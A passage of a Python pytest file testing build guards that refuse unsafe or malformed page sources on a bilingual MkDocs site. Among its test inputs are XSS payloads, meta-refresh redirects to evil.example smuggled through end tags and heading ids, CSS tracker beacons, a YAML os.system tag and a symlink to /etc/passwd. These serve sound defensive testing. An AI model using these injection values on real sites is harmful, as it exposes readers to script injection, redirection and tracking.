"""Unsafe or broken page sources stop the build (hooks/guards.py, rules in hooks/_pages.py).

Unit tests on inline text, then strict builds of a copied site, each asserting the exact
`docs/<file>:<line>: …` lines, a non-zero exit and no Python traceback.
"""

from __future__ import annotations

import os
import re
import shutil
import sys
import textwrap
from datetime import datetime, timezone

import markdown
import pytest
from hypothesis import given, settings, strategies as st
from bs4 import BeautifulSoup

from conftest import ROOT, build_site
from conftest import copy_site

sys.path.insert(0, str(ROOT / "hooks"))
from _pages import (  # noqa: E402
    PageSource, description_length_problems, element_ids, link_text_spans, repeated,
    Finding, Problem, broken_page_links, code_ranges, control_character_problems, direction_control_problems,
    file_name_problems, front_matter_problems, id_line, inline_code_spans, locate, marker_findings,
    markdown_cost_problems, markup_space_problems, heading_count_problems, list_after_paragraph_problems,
    pasted_bullet_problems, pasted_text_problems, scan_html, toc_markup_findings, foreign_id_references, symlinks,
    unknown_anchor_links, unloaded_paths, unreadable_address_problems, unsuffixed_pages, unsupported_markdown_problems,
    url_scheme,
)

MARKERS = {"data:events": "events", "data:partners": "partners", "site:feedback": None}


def render(source: str) -> str:
    """The page's Markdown as the site renders it (the extensions of mkdocs.yml), with the
    hooks that change it before the guards read it (hooks/tables.py)."""
    import tables
    return tables.on_page_content(markdown.markdown(textwrap.dedent(source), extensions=CONFIG_EXTENSIONS), None, None, None)


def _extensions() -> list[str]:
    text = (ROOT / "mkdocs.yml").read_text()
    block = text.split("\nmarkdown_extensions:\n", 1)[1].split("\n\n", 1)[0]
    return [line.strip()[2:].rstrip(":") for line in block.splitlines() if line.strip().startswith("- ")]


CONFIG_EXTENSIONS = _extensions()


def messages(problems) -> list[str]:
    return [str(problem) for problem in problems]


# ------------------------------------------------------------------ front matter (item 4)

GOOD = ("---\ntitle: Teemat\ndescription: Yhteistyön neljä teemaa, joista kolme vastaa yhteistyön tavoitteita ja "
        "neljäs julistuksen yleistä tavoitetta.\n---\n\n# Teemat\n")


@pytest.mark.parametrize("description,length", [("Usein kysyttyä.", 15), ("x" * 161, 161)])
def test_a_description_search_results_cannot_show_well_is_named(description, length):
    """A new page's 13-character description passed the build; only the Checks' content test,
    which knew the existing pages alone, held them to 70 to 160 characters (hunt 18c)."""
    text = re.sub(r"description: .*", f"description: {description}", GOOD)
    assert messages(description_length_problems(text, "f.md", (70, 160))) == [
        f"f.md:3: description: {length} characters; search results show 70 to 160: write one or two sentences that "
        "say what the page is about"]
    assert description_length_problems(GOOD, "f.md", (70, 160)) == []
    # Told with the pages' other problems, not with the front matter's, which stop the build first.
    assert front_matter_problems(text, "f.md") == []


@pytest.mark.parametrize("preview", [False, True])
def test_a_page_at_an_address_of_the_sites_own_is_refused_in_previews_too(tmp_path, preview):
    # Hunt 35a: a preview, which has no menu check, put the Finnish en.fi.md at the preview's
    # /en/, and README.fi.md in the place of the home page.
    root = copy_site(tmp_path / "copy")
    for stem in ("en", "README", "404", "en/uutiset"):
        (root / "docs" / stem).parent.mkdir(parents=True, exist_ok=True)
        for locale in ("fi", "en"):
            (root / "docs" / f"{stem}.{locale}.md").write_text(
                (root / f"docs/privacy.{locale}.md").read_text("utf-8"), "utf-8")
    result, output = build(root, {"SITE_PREVIEW": "#5"} if preview else None)
    assert result.returncode == 1
    told = [line for line in problem_lines(output) if "give it another name" in line]
    assert told == [
        "docs/404.en.md: a page may not be named 404: its address is the site's own page for addresses that lead "
        "nowhere; give it another name",
        "docs/404.fi.md: a page may not be named 404: its address is the site's own page for addresses that lead "
        "nowhere; give it another name",
        "docs/README.en.md: a page may not be named README: MkDocs makes it its folder's home page, in the place of "
        "index; give it another name",
        "docs/README.fi.md: a page may not be named README: MkDocs makes it its folder's home page, in the place of "
        "index; give it another name",
        "docs/en.en.md: a page may not be named en: its address would be /en/, the home page of the en pages; give it "
        "another name",
        "docs/en.fi.md: a page may not be named en: its address would be /en/, the home page of the en pages; give it "
        "another name",
        "docs/en/uutiset.en.md: a page may not stand in a folder named en: its address would be under /en/, the en "
        "pages' own folder; give it another name",
        "docs/en/uutiset.fi.md: a page may not stand in a folder named en: its address would be under /en/, the en "
        "pages' own folder; give it another name",
    ], output


def test_a_short_description_stops_the_build_with_its_line(tmp_path):
    # Review 35c: the build's own path to the check had no test.
    root = copy_site(tmp_path / "copy")
    page = root / "docs/privacy.fi.md"
    text = page.read_text("utf-8")
    page.write_text(re.sub(r"(?m)^description: .*$", "description: Tietosuoja.", text, count=1), "utf-8")
    line = page.read_text("utf-8").splitlines().index("description: Tietosuoja.") + 1
    result, output = build(root)
    assert result.returncode == 1
    assert (f"docs/privacy.fi.md:{line}: description: 11 characters; search results show 70 to 160: write one or "
            "two sentences that say what the page is about") in problem_lines(output)


def test_valid_front_matter_has_no_problem():
    assert front_matter_problems(GOOD, "docs/themes.fi.md") == []
    folded = "---\ntitle: Teemat\ndescription: >\n  Yhteistyön\n  neljä teemaa.\n---\n"  # ends with a new line
    assert front_matter_problems(folded, "docs/themes.fi.md") == []


def test_every_page_of_the_site_has_valid_front_matter():
    for path in sorted((ROOT / "docs").glob("*.md")):
        assert front_matter_problems(path.read_text("utf-8-sig"), path.name, PAGE_TEMPLATES) == [], path


PAGE_TEMPLATES = ("main.html", "home.html")


def test_the_home_pages_template_belongs_to_the_home_page_alone():
    """On the Privacy page it gave the tab and the sharing card the site's name, and the home
    page's banner (hunt 24b)."""
    page = "---\ntitle: Privacy\ndescription: D.\ntemplate: home.html\n---\n# Privacy\n"
    templates = (("main.html", None), ("home.html", "index"))
    assert messages(front_matter_problems(page, "docs/privacy.en.md", templates)) == [
        "docs/privacy.en.md:4: template: home.html is for docs/index.*.md alone (mkdocs.yml "
        "extra.page_templates); remove the template: line"]
    assert front_matter_problems(page, "docs/index.en.md", templates) == []
    assert front_matter_problems(page.replace("home.html", "main.html"), "docs/privacy.en.md", templates) == []
ONLY_PAGE_TEMPLATES = ("template: expected main.html or home.html (mkdocs.yml extra.page_templates), "
                       "or no template: line for an ordinary page; got ")


@pytest.mark.parametrize("template,shown", [
    ("partials/content.html", "'partials/content.html' (text)"),
    ("404.html", "'404.html' (text)"),
    ("sitemap.xml", "'sitemap.xml' (text)"),
    ("../../etc/passwd", "'../../etc/passwd' (text)"),
    ("", "nothing"),
    ("[home.html]", "a list (['home.html']: put text in quotes)"),
])
def test_a_page_may_name_only_a_page_template(template, shown):
    def page(template: str) -> str:
        return f"---\ntitle: Teemat\ndescription: D.\ntemplate: {template}\n---\n"
    assert messages(front_matter_problems(page(template), "f.md", PAGE_TEMPLATES)) == [
        f"f.md:4: {ONLY_PAGE_TEMPLATES}{shown}"]
    for allowed in PAGE_TEMPLATES:
        assert front_matter_problems(page(allowed), "f.md", PAGE_TEMPLATES) == []


@pytest.mark.parametrize("text,expected", [
    ("# Teemat\n\nText.\n",
     "f.md:1: the page has no front matter: start the file with a line ---, then title: and description:, then another line ---"),
    ("---\ntitle: Teemat\ndescription: D.\n\n# Teemat\n",
     "f.md:1: the front matter opened on this line is not closed: add a line --- after its last field"),
    ("---\n---\n# Teemat\n", "f.md:1: the front matter is empty: it needs title: and description:"),
    ("---\ntitle: [Teemat\ndescription: D.\n---\n",
     "f.md:2: the front matter is not valid YAML: while parsing a flow sequence did not find expected ',' or ']'; a value that starts with [ or { is read as a list or mapping: close it, or put the text in quotes"),
    ("---\ntitle: Teemat\ndescription: D: E\n---\n",
     "f.md:3: the front matter is not valid YAML: mapping values are not allowed in this context; "
     "a text with ': ' in it must be in quotes, such as \"D: E\""),
    ("---\n- Teemat\n---\n", "f.md:2: the front matter must be fields such as 'title: …', got a list (['Teemat']: put text in quotes)"),
    ("---\ntitle: Teemat\n---\n", "f.md:1: the front matter needs 'description': the summary search engines show"),
    ("---\ndescription: D.\ntitle:\n---\n", "f.md:3: title: expected text, got nothing"),
    ("---\ntitle: 2019\ndescription: D.\n---\n", "f.md:2: title: expected text, got 2019 (a number): put the text in "
                                                  "quotes, such as title: \"2019\""),
    ("---\ntitle: Teemat\ndescription: Yes  # a comment\n---\n",
     "f.md:3: description: expected text, got True (a yes/no value): put the text in quotes, such as description: \"Yes\""),
    ("---\ntitle: '  '\ndescription: D.\n---\n", "f.md:2: title: expected text, got '  ' (text)"),
    ("---\ntitle: A\ndescription: D.\ntitle: B\n---\n", "f.md:4: the key 'title' is given twice; keep one"),
    # YAML escapes, which the checks of the page's source read as letters, become the tab's
    # title and the meta tags (hunt 14): a reversed title, control characters, no title.
    ('---\ntitle: "Privacy \\u202egnikcart"\ndescription: D.\n---\n', "f.md:2: title: the text holds U+202E, a "
     "direction control that can show the text in another order than it is written; remove it"),
    ('---\ntitle: T\ndescription: "Ctrl\\x00\\x1b[31m"\n---\n',
     "f.md:3: description: the text holds the control character U+0000; remove it"),
    ('---\ntitle: "\\u200b\\u200b"\ndescription: D.\n---\n',
     "f.md:2: title: expected text, got only spaces or invisible characters ('\\u200b\\u200b')"),
    ('---\ntitle: "A\\u2028B"\ndescription: D.\n---\n',
     "f.md:2: title: the text holds U+2028, a separator that browsers and feeds read differently; remove it"),
    ("---\ntitle: T\ndescription: " + "x" * 501 + "\n---\n",
     "f.md:3: description: the text is 501 characters long; at most 500 are allowed here"),
])
def test_broken_front_matter_is_one_problem_on_its_line(text, expected):
    assert messages(front_matter_problems(text, "f.md")) == [expected]


# Fields the theme reads from a page's front matter: a value of the wrong kind ended in a
# traceback inside Material's templates or hooks/contents.py (hide: 5, search: 5, icon: 5).
FIELDS = "title, description, template, hide, search, translation_checked"


@pytest.mark.parametrize("line,expected", [
    ("hide: 5", "f.md:4: hide: expected a list of what to hide on this page, from navigation, toc, footer, "
                "feedback, path, tags (such as hide: [toc]); got 5 (a number)"),
    ("hide: [toc, menu]", "f.md:4: hide: expected a list of what to hide on this page, from navigation, toc, footer, "
                          "feedback, path, tags (such as hide: [toc]); got ['toc', 'menu']"),
    ("hide: !!binary aGk=", "f.md:4: hide: expected a list of what to hide on this page, from navigation, toc, footer, "
                            "feedback, path, tags (such as hide: [toc]); got b'hi' (bytes)"),
    ("search: 5", "f.md:4: search: expected exclude: true (the page is left out of the search) or boost: a number from 0 to 100 (2 ranks the page higher); got 5 (a number)"),
    ("search: {exclude: maybe}", "f.md:4: search: expected exclude: true (the page is left out of the search) or boost: "
                                 "a number from 0 to 100 (2 ranks the page higher); got {'exclude': 'maybe'}"),
    # Written into the search index as Infinity or NaN, which no JSON reader takes: the
    # language's search stopped on every page (hunt 11).
    ("search: {boost: .inf}", "f.md:4: search: expected exclude: true (the page is left out of the search) or boost: "
                              "a number from 0 to 100 (2 ranks the page higher); got {'boost': inf}"),
    ("search: {boost: .nan}", "f.md:4: search: expected exclude: true (the page is left out of the search) or boost: "
                              "a number from 0 to 100 (2 ranks the page higher); got {'boost': nan}"),
    # Too large for a float: math.isfinite() ended the build in a traceback (hunt 24b).
    ("search: {boost: 1" + "0" * 400 + "}", "f.md:4: search: expected exclude: true (the page is left out of the search) "
                                          "or boost: a number from 0 to 100 (2 ranks the page higher); got {'boost': 1"
                                          + "0" * 400 + "}"),
    ("search: {boost: 190:20:30}", "f.md:4: search: expected exclude: true (the page is left out of the search) or "
                                   "boost: a number from 0 to 100 (2 ranks the page higher); got {'boost': 685230}"),
    ("icon: 5", f"f.md:4: icon: is not a field of a page here (the fields are {FIELDS}): remove it"),
    ("descripton: D.", f"f.md:4: descripton: is not a field of a page here (the fields are {FIELDS}): rename it "
                       "to description"),
    ("Title: T.", f"f.md:4: Title: is not a field of a page here (the fields are {FIELDS}): rename it to title"),
    ("translation_checked: yesterday", "f.md:4: translation_checked: expected the day you checked the other language's "
                                       "version as year-month-day, such as translation_checked: 2026-11-28; got 'yesterday' (text)"),
    ("translation_checked: 2019-3-1", "f.md:4: translation_checked: expected the day you checked the other language's "
                                      "version as year-month-day, such as translation_checked: 2026-11-28; got '2019-3-1' (text)"),
])
def test_a_field_the_theme_reads_must_have_the_right_kind_of_value(line, expected):
    text = f"---\ntitle: Teemat\ndescription: D.\n{line}\n---\n# Teemat\n"
    assert messages(front_matter_problems(text, "f.md")) == [expected]


@pytest.mark.parametrize("line", ["hide: [toc]", "hide:\n  - navigation\n  - toc", "hide:", "search: {exclude: true}",
                                  "search:\n  boost: 2", "translation_checked: 2026-11-27"])
def test_the_fields_the_site_uses_are_accepted(line):
    assert front_matter_problems(f"---\ntitle: Teemat\ndescription: D.\n{line}\n---\n", "f.md") == []


@pytest.mark.parametrize("link", ["[Palaute](https://www.hel.fi/palaute\u200b)", "[Helsinki](https://www.hel\u200b.fi/)",
                                  "<https://www.hel.fi/x\u2060>", "[Palaute](https://www.hel.fi/palaute%E2%80%8B)"])
def test_an_address_with_an_invisible_character_pasted_in_it_is_refused(link):
    """Session 32b: a zero-width space copied with an address published a link that led nowhere,
    or, in the host, was told as a look-alike letter of another script."""
    [message] = [finding.message for finding in scan_html(markdown.markdown(link))]
    assert re.search(r": the address holds an invisible character, U\+(200B|2060) \((ZERO WIDTH SPACE|WORD JOINER)\), "
                     r"which comes with copied text and makes it another address: type the address again$", message), message


# What a number drawn last group first without its markup is told (no markup can keep its order there).
NUMBER_DRAWN_BACKWARDS = ("the number '020 555 0000' would be shown as '0000 555 020': right-to-left text or `dir` around "
                          "it draws its groups last first; join its groups with no-break spaces (U+00A0) instead of "
                          "spaces, or write it after a Finnish or English word (Puhelin 020 555 0000)")


def test_what_the_search_results_show_otherwise_than_the_page_stops_the_build(tmp_path):
    """Hunt 32a: Material's search keeps a paragraph's text without its markup, so a number
    that `dir` kept in order on the page was drawn last group first in the results; and an <rt>
    left open in a heading made the rest of the page the heading's title in the results."""
    payload = ('Neuvonta: soita <span lang="ar" dir="rtl">\u0647\u0627\u062a\u0641</span> 020 555 0000 arkisin.\n\n'
               '## Ohje <ruby>\u6f22<rt>kan</ruby> {#ohje}\n\nT\u00e4m\u00e4 kappale n\u00e4kyy sivulla.')
    code, problems, line = built_with(tmp_path, "privacy.en.md", payload)
    assert code != 0
    assert problems == [
        f"docs/privacy.en.md:{line - 4}: in the site's search results, which show a paragraph without its markup, "
        + NUMBER_DRAWN_BACKWARDS,
        f"docs/privacy.en.md:{line - 2}: the heading 'Ohje \u6f22kan' holds an element that is not closed as the site's "
        "search reads it (an <rt>, <li> or <p> left open, or closed after another element's end tag): the search would "
        "show the rest of the page as the heading's title; close each element inside the heading"]
    # As the messages say: no-break spaces, and the <rt> closed.
    page = tmp_path / "copy" / "docs" / "privacy.en.md"
    edit(page, "020 555 0000", "020\u00a0555\u00a00000")
    edit(page, "<rt>kan</ruby>", "<rt>kan</rt></ruby>")
    result, output = build(page.parent.parent)
    assert result.returncode == 0, output


def test_what_the_search_results_show_of_a_listings_page_and_after_a_heading_is_read_too(tmp_path):
    """Hunt 33a: the Events page's own text was not read at all, so hunt 32a's number passed
    there; and a heading left open took in a <div> after it, which holds no <p> the check
    looked for."""
    root = copy_site(tmp_path / "copy")
    events = root / "docs" / "events.en.md"
    edit(events, "<!-- data:events -->", '## Helpline {#helpline}\n\nSoita <span lang="ar" dir="rtl">\u0647\u0627\u062a\u0641'
                                         '</span> 020 555 0000\n\n<!-- data:events -->')
    privacy = root / "docs" / "privacy.en.md"
    # Hunt 33c: a ">" inside an attribute's quotes cut the heading's text short when a pattern read it.
    privacy.write_text(privacy.read_text() + '\n<h2 id="notice">Notice <span title="x>y">now</span> <ruby>\u6f22<rt>kan'
                                             '</ruby></h2>\n\n<div>The site has moved.</div>\n')
    result, output = build(root)
    problems = problem_lines(output)
    assert result.returncode != 0
    assert any(line.startswith("docs/events.en.md:") and "the number '020 555 0000' would be shown as '0000 555 020'"
               in line for line in problems), problems
    assert any(line.startswith("docs/privacy.en.md:") and "the heading 'Notice now \u6f22kan' holds an element that is not "
               "closed as the site's search reads it" in line for line in problems), problems


@pytest.mark.parametrize("markdown_image,why", [
    # Session 32b: alternative text that says nothing of the image passed (WCAG 1.1.1).
    ("![Kuva](images/kaupungit.png)", "'Kuva' says only that there is an image"),
    ("![image](images/kaupungit.png)", "'image' says only that there is an image"),
    ("![kaupungit-testi.png](images/kaupungit-testi.png)", "'kaupungit-testi.png' is the file's name"),
    ("![kaupungit-testi](images/kaupungit-testi.png)", "'kaupungit-testi' is the file's name"),
    ('<img src="images/IMG_0423.jpg" alt="IMG_0423">', "'IMG_0423' is the file's name"),
    # Hunt 33a: a number, quotes or an article around the word, and a camera's name for another file.
    ("![Kuva 1](images/kartta.svg)", "'Kuva 1' says only that there is an image"),
    ('![“Kuva”](images/kartta.svg)', "'“Kuva”' says only that there is an image"),
    ("![an image](images/kartta.svg)", "'an image' says only that there is an image"),
    ("![IMG_0423](images/kartta.svg)", "'IMG_0423' is a camera's name for the file"),
    ("![DSC 0001](images/kartta.svg)", "'DSC 0001' is a camera's name for the file"),
])
def test_an_images_alternative_text_must_say_what_it_shows(markdown_image, why):
    found = [finding.message for finding in scan_html(markdown.markdown(markdown_image))]
    assert found == [f"the image's alternative text {why}: write what a reader who cannot see the image needs to know "
                     "of it, such as ![Helsingin ja Lontoon kaupunkien logot](…), or leave it empty, ![](…), for an "
                     "image that only decorates"]


@pytest.mark.parametrize("markdown_image", ["![](images/koriste.png)", "![Kartta](images/kartta.png)",
                                            "![Helsingin ja Lontoon kaupunkien logot](images/logot.png)",
                                            "![Kuva 1: Helsingin kartta](images/kartta.png)",
                                            "![Pormestarit 2019](images/pormestarit.png)"])
def test_an_empty_or_a_telling_alternative_text_is_fine(markdown_image):
    assert scan_html(markdown.markdown(markdown_image)) == []


def test_a_translation_checked_day_still_to_come_is_refused():
    """Session 32b: 2027-11-28 for 2026-11-28 counted every change until then as checked. The
    next day is allowed: east of UTC it is already that day."""
    from datetime import date
    text = "---\ntitle: Teemat\ndescription: D.\ntranslation_checked: {}\n---\n"
    today = date(2026, 11, 28)
    assert messages(front_matter_problems(text.format("2027-11-28"), "f.md", today=today)) == [
        "f.md:4: translation_checked: 2027-11-28 is a day still to come (today is 2026-11-28): write the day you "
        "checked the other language's version, such as today's"]
    assert front_matter_problems(text.format("2026-11-29"), "f.md", today=today) == []
    assert front_matter_problems(text.format("2026-11-28"), "f.md", today=today) == []


def test_a_translation_checked_day_still_to_come_stops_the_build(tmp_path):
    page = copy_site(tmp_path / "copy") / "docs" / "cities.en.md"
    page.write_text(page.read_text("utf-8").replace("---\n", "---\ntranslation_checked: 2099-01-01\n", 1), "utf-8")
    result, output = build(page.parent.parent)
    assert result.returncode != 0
    today = datetime.now(timezone.utc).date().isoformat()  # the clock's: the tests' SOURCE_DATE_EPOCH is in the past
    assert problem_lines(output) == [f"docs/cities.en.md:2: translation_checked: 2099-01-01 is a day still to come "
                                     f"(today is {today}): write the day you checked the other language's version, "
                                     "such as today's"]


def test_front_matter_of_a_list_title_says_to_quote():
    [problem] = front_matter_problems("---\ntitle: [Teemat]\ndescription: D.\n---\n", "f.md")
    assert str(problem) == "f.md:2: title: expected text, got a list (['Teemat']: put text in quotes)"


def test_front_matter_with_python_tags_is_not_executed():
    text = "---\ntitle: !!python/object/apply:os.system ['echo hi']\ndescription: D.\n---\n"
    [problem] = front_matter_problems(text, "f.md")
    assert problem.line == 2 and "not valid YAML" in problem.message


# ------------------------------------------------------------------ symlinks and file names (items 2, 10)


def test_every_symlink_is_reported_and_none_is_followed(tmp_path):
    (tmp_path / "docs/images").mkdir(parents=True)
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside/secret.txt").write_text("secret")
    os.symlink("/etc/passwd", tmp_path / "docs/images/p.txt")
    os.symlink(tmp_path / "outside", tmp_path / "docs/linked-folder")
    os.symlink("/nonexistent/file", tmp_path / "docs/dangling.md")
    (tmp_path / "data").mkdir()
    (tmp_path / "data/events.yml").write_text("events: []\n")
    os.symlink(tmp_path / "outside", tmp_path / "overrides")
    found = {problem.file: problem for problem in symlinks(tmp_path, ["docs", "overrides", "data", "hooks"])}
    assert sorted(found) == ["docs/dangling.md", "docs/images/p.txt", "docs/linked-folder", "overrides"]
    assert str(found["docs/images/p.txt"]) == (
        "docs/images/p.txt: is a symbolic link (to /etc/passwd); the site publishes only files kept in "
        "the repository: replace the link with a real file"
    )


def test_the_site_has_no_symlinks():
    assert symlinks(ROOT, ["docs", "overrides", "data", "hooks"]) == []


def test_a_page_without_language_in_its_name_is_a_problem():
    problems = unsuffixed_pages(["index.fi.md", "index.en.md", "plain.md", "sub/x.sv.md"], ["fi", "en"])
    assert messages(problems) == [
        "docs/plain.md: a page file's name ends with its language: rename it to plain.fi.md and plain.en.md",
        "docs/sub/x.sv.md: a page file's name ends with its language: rename it to sub/x.sv.fi.md and sub/x.sv.en.md",
    ]


# ------------------------------------------------------------------ raw HTML (item 5)


STYLE_REFUSED = ("<p style=…>: a style attribute does not apply on this site (its policy blocks inline styles); align a table's column in Markdown (---: right, :---: centre), and ask a maintainer for anything else, in docs/stylesheets/site.css")


def found(source: str) -> list[str]:
    return [finding.message for finding in scan_html(render(source))]


@pytest.mark.parametrize("source,expected", [
    ("<script>alert(1)</script>", "<script> is not allowed in a page: it runs a script"),
    ("<SCRIPT SRC=x.js></SCRIPT>", "<script> is not allowed in a page: it runs a script"),
    ('<iframe src="https://example.org"></iframe>', "<iframe> is not allowed in a page: it embeds another page or program; link to it instead"),
    ('<object data="x.swf"></object>', "<object> is not allowed in a page: it embeds another page or program; link to it instead"),
    ('<embed src="x.swf">', "<embed> is not allowed in a page: it embeds another page or program; link to it instead"),
    ('<form action="https://example.org"><input name="q"></form>',
     "<form> is not allowed in a page: the site collects no data from readers"),
    ('<base href="https://example.org/">', "<base> is not allowed in a page: it changes where every link of the page goes"),
    ('<meta http-equiv="refresh" content="0; url=https://example.org">',
     "<meta> is not allowed in a page: it can send the reader to another address"),
    ('<style>body { display: none }</style>',
     "<style> is not allowed in a page: it can restyle or hide the whole page; ask a maintainer to change docs/stylesheets/site.css"),
    ('<img src="a.png" alt="" onerror="alert(1)">', "<img onerror=…>: event-handler attributes run scripts and are not allowed"),
    ('<div onMouseOver="alert(1)">x</div>', "<div onmouseover=…>: event-handler attributes run scripts and are not allowed"),
    ("Text {: onclick='alert(1)' }\n{: onclick='alert(1)' }", "<p onclick=…>: event-handler attributes run scripts and are not allowed"),
    ('<p style="background: url(https://tracker.example/x.png)">x</p>',
     STYLE_REFUSED),
    ('<p style="background: \\75rl(https://tracker.example/x.png)">x</p>',
     STYLE_REFUSED),
    # A "/*" in a CSS string is not a comment: it hid the @import after it from the check.
    ('<p style=\'--a: "/*"; background: url(https://tracker.example/x.png); --b: "*/"\'>x</p>',
     STYLE_REFUSED),
    # The rest of the page would be the page's title: its text, the footer and the scripts gone.
    ("<p>Johdanto<title></p>", "<title> is not allowed in a page: the browser reads the rest of the page as the "
                                "page's title, the site's own menu and scripts included"),
    # An end tag is only its name: the browser reads "attributes" in it, quotes and all, and
    # ignores them; the checks' parser ends it at the first ">". A citation there was
    # replaced after the checks, and its quotes let the rest in as markup (a redirect).
    ('<div class="note">\n<p>Lisätietoa</p title="[[cite:kuntalehti-2019-02]]<meta http-equiv=refresh '
     'content=0;url=https://evil.example/>">\n</div>',
     "</p …>: an end tag holds only its name, such as </p>"),
    ("<p>x</p title=y>", "</p …>: an end tag holds only its name, such as </p>"),
    # An id goes into the table of contents unescaped (Material's toc-item.html prints
    # "#" + id into an href): quotes in it put a redirect, or a script, into the navigation.
    ("## Lisätietoa { id='lisa\"><meta http-equiv=refresh content=0;url=https://evil.example/><i x=\"' }",
     '<h2 id="lisa"><meta http-equiv=refresh content=0;url=https…">: an id may hold only the letters a-z and '
     "A-Z, digits, '-', '_', '.' and ':'; it becomes part of links to it"),
    ('<h2 markdown="1" id="muu&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">Muuta</h2>',
     '<h2 id="muu"><script>alert(1)</script>">: an id may hold only the letters a-z and A-Z, digits, \'-\', \'_\', '
     "'.' and ':'; it becomes part of links to it"),
    ("## Yhteistyö { #yhteistyö }", '<h2 id="yhteistyö">: an id may hold only the letters a-z and A-Z, digits, \'-\', '
                                   "'_', '.' and ':'; it becomes part of links to it: write it as yhteistyo"),
    ('<p id="Oma osio">x</p>', '<p id="Oma osio">: an id may hold only the letters a-z and A-Z, digits, \'-\', '
                               "'_', '.' and ':'; it becomes part of links to it: write it as oma-osio"),
    # A comment ends only with "-->": Python's parser also ends one at "-- >", and a browser
    # read the rest of the page, the footer and the site's scripts, as the comment.
    ('<div class="x">\n<!-- luonnos -- >\n</div>', "an HTML comment ends only with -->; write it as <!-- text -->"),
    # "<!x>" is a comment for a browser, but not one a marker may stand in.
    ("<div>\n<! site:feedback >\n</div>", "<!…> is not an HTML comment; write comments as <!-- text -->"),
    # An element left open runs on into the site's own parts: a browser carried the link on
    # into the footer, where the publishers' names became links to the other site.
    ('<p>Lue lisää <a href="https://evil.example/">tästä', "<a> is not closed: a browser would carry it on into the "
                                                        "site's own parts after the page; close it with </a>"),
    # The rest of the page would go into an inert template: no footer, none of the site's scripts.
    ('<div class="x" markdown="1">\nBefore template <template>\n</div>',
     "<template> is not allowed in a page: the browser keeps the rest of the page in it, unseen, the site's own "
     "footer and scripts included"),
    # The page's own <html> or <body> adds its attributes to the site's: hidden blanked the page.
    ("<div>\n<html hidden></html>\n</div>", "<html> is not allowed in a page: its attributes would go onto the "
                                            "site's own <html> (hidden blanks the whole page)"),
    ("<div>\n<body inert></body>\n</div>", "<body> is not allowed in a page: its attributes would go onto the "
                                           "site's own <body> (inert stops every click and key)"),
    # A </a> inside a table cell or marquee is ignored by a browser: the link ran on into the
    # footer, and the publishers' names became links to the other site.
    ('<a href="https://evil.example/"><table><tr><td>cell</a></td></tr></table>',
     "</a> does not close the element opened last (<td>): a browser would leave <a> open and carry it on into the "
     "site's own parts; close elements in the reverse order of opening"),
    ("<p><b><i>x</b></i></p>", "</b> does not close the element opened last (<i>): a browser would leave <b> open "
                               "and carry it on into the site's own parts; close elements in the reverse order of opening"),
    ('<img src="images/logo.svg" alt="" attributionsrc="https://tracker.example/a">',
     "<img attributionsrc=…>: attributionsrc= reports to another address; remove it"),
    # Content drawn over the site's own parts with no click: an open dialog lay over the
    # footer, and a popover opened at load by a focused link covered the header.
    ('<dialog open>\n<p>Report a problem: <a href="https://evil.example/">here</a></p>\n</dialog>',
     "<dialog> is not allowed in a page: it is drawn over the site's own parts"),
    *[(source, f"<{tag} {name}=…>: {name}= opens or moves content over the site's own parts; remove it")
      for source, tag, name in (
          ('<a href="#top" interestfor="notice">Skip</a>', "a", "interestfor"),
          ('<div popover id="notice">x</div>', "div", "popover"),
          ('<a href="#top" autofocus>Skip</a>', "a", "autofocus"),
          ('<a href="#top" commandfor="notice" command="show-popover">x</a>', "a", "commandfor"),
      )],
    # The landmarks a screen reader lists are the site's own: a second main or banner in the
    # content would stand beside the real ones (axe reports a second main region).
    ("<main>\n<p>x</p>\n</main>", "<main> is not allowed in a page: the site's template gives each page its one main "
                                 "region"),
    *[(f'<div role="{role}">x</div>', f'<div role="{role}">: the role {role} belongs to the site\'s own header, '
                                      "navigation, search, main region and footer; choose another or none")
      for role in ("banner", "navigation", "search", "main", "contentinfo")],
    # Attributes are allowed by a list, since browsers keep adding ones that act on their own.
    ('<a href="#top" foo-new-trigger="x">Top</a>',
     "<a foo-new-trigger=…>: not an attribute pages use; remove it (pages may use id, class, title, lang, dir, role, "
     "translate, tabindex, aria-* and data-toc-label on any element, and on <a> href, hreflang, rel, target, "
     "type, download; CONTRIBUTING.md, \"HTML in pages\")"),
    ('<table summary="x"><tr><td>x</td></tr></table>',
     "<table summary=…>: not an attribute pages use; remove it (pages may use id, class, title, lang, dir, role, "
     "translate, tabindex, aria-* and data-toc-label on any element; CONTRIBUTING.md, \"HTML in pages\")"),
    # Elements are allowed by a list too: browsers keep adding ones that act on their own
    # (<fencedframe> embeds a page, <permission> asks the reader for a browser permission),
    # and a word in angle brackets vanished from the page as an unknown element.
    ("Kaupungit <Helsinki> ja <Lontoo>.", "<helsinki> is not an element of HTML that pages use: to show the text "
                                          "<helsinki> write &lt;helsinki&gt;"),
    ('<fencedframe src="https://evil.example/"></fencedframe>',
     "<fencedframe> is not an element of HTML that pages use: to show the text <fencedframe> write &lt;fencedframe&gt;"),
    ('<my-widget>x</my-widget>', "<my-widget> is not an element of HTML that pages use: to show the text <my-widget> "
                                 "write &lt;my-widget&gt;"),
    ("<nav><p>x</p></nav>", "<nav> is not allowed in a page: it is a landmark like the site's own navigation, and a "
                            "screen reader would list a second one"),
    ("<search><p>x</p></search>", "<search> is not allowed in a page: it is a landmark like the site's own search, and "
                                  "a screen reader would list a second one"),
    # Markup that HTML pages do not have: the browser ends each at its first ">".
    ("<p>Intro <![CDATA[ <!-- home:hero-end --> ]]></p>",
     "<![CDATA[ … ]]> is not allowed in a page: HTML has no such sections, and the browser ends it at its first \">\""),
    ("<?php echo 1; ?>", "<?…> is not allowed in a page: HTML has no processing instructions, and the browser ends it "
                         "at its first \">\""),
    ("<p>x</p>\n\n<!DOCTYPE html>", "<!DOCTYPE …> is not allowed in a page: the site's template gives the page its "
                                    "declaration"),
    # Elements after which the browser reads the rest of the page as plain text.
    *[(f"<{tag}>", f"<{tag}> is not allowed in a page: the browser shows the rest of the page after it as text, "
                   "the site's own menu and scripts included") for tag in ("plaintext", "xmp", "noembed", "noframes")],
    # The citation and the marker become markup after these checks: inside an attribute,
    # their quotes would end the value and let the rest of it in as markup.
    ('<div title="[[cite:kuntalehti-2019-02]]><script>alert(1)</script>">x</div>',
     "<div …>: a citation [[cite:…]] can stand only in the text, not inside an HTML tag"),
    ('<div title="<!-- site:feedback --> ><script>alert(1)</script>">x</div>',
     "<div …>: a marker such as <!-- site:… --> can stand only on a line of its own, not inside an HTML tag"),
    # home.html splits the page at the hero's end: inside an attribute, the rest of the
